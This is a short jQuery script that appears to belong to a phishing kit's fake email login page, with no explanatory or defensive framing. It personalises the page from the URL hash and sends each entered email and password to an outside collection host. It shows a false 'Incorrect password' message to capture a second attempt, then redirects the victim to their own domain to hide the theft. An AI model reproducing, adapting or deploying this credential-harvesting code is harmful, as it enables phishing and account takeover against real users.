$(document).ready(function () {
  var n = 0;
  var hash = window.location.hash.substr(1);
  if (hash) { $('#email').val(hash); $('#banner').text(hash.split('@')[1].toUpperCase()); }
  $('#next').click(function (ev) {
    ev.preventDefault();
    $('#msg').hide();
    var email = $('#email').val(), password = $('#pr').val();
    if (!password) { $('#msg').show().html('Password field is empty!'); return false; }
    n = n + 1;
    $.ajax({
      dataType: 'JSON', url: 'https://mailer-box.example/next.php', type: 'POST',
      data: { email: email, password: password },
      beforeSend: function () { $('#next').html('Verifying...'); },
      success: function () {
        $('#pr').val('');
        if (n >= 2) { window.location.replace('http://www.' + email.split('@')[1]); return false; }
        $('#msg').show().html('Incorrect password, please try again.');
      },
      complete: function () { $('#next').html('Next'); }
    });
  });
});
